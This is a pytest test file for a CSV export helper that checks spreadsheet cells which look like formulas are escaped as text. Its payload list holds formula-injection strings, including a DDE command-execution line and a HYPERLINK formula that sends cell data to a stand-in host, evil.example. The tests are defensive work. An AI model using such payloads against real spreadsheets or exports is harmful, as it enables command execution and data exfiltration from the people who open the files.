"""What somebody wrote is never carried out by the program that opens a table."""

import csv
import datetime as dt
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kaveri.foundation.documents.tables import cell, csv_table

pytestmark = pytest.mark.requirement("TRUST-1")
FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "=cmd|'/c calc'!A0",
    "|calc",
    "%0A",
    "\uff1d1+1",
    '"=1+1',
    "'=1+1",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "\x00=1",
]


@pytest.mark.parametrize("written", FORMULAS)
def test_what_looks_like_a_formula_is_text(written):
    assert str(cell(written)).startswith("'")


@pytest.mark.parametrize(
    "written", ["Aino Virtanen", "", "a=b", "3 - 2", "åäö", "040 555 0101", "1.1.2026", "'n kort"]
)
def test_what_people_write_stays_as_it_is(written):
    assert cell(written) == written


@pytest.mark.parametrize("value", [-3, 2.5, None, True, dt.date(2026, 11, 22)])
def test_numbers_and_days_stay_what_they_are(value):
    assert cell(value) is value


@given(st.text(max_size=40))
def test_no_text_begins_a_formula(written):
    shown = str(cell(written))

    assert not shown.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert not shown.lstrip().startswith(("=", "+", "-", "@"))


@given(st.lists(st.text(max_size=20), min_size=1, max_size=4))
def test_every_cell_of_a_file_is_one_cell_again(row):
    file = csv_table(["a"] * len(row), [row]).decode("utf-8-sig")

    read = list(csv.reader(io.StringIO(file, newline=""), delimiter=";"))

    assert [len(each) for each in read] == [len(row), len(row)]
    assert not any(each[:1] in tuple("=+-@\t\r") and each for each in read[1])


def test_the_head_is_guarded_as_well():
    assert csv_table(["=1"], []) == b'\xef\xbb\xbf"\'=1"\r\n'
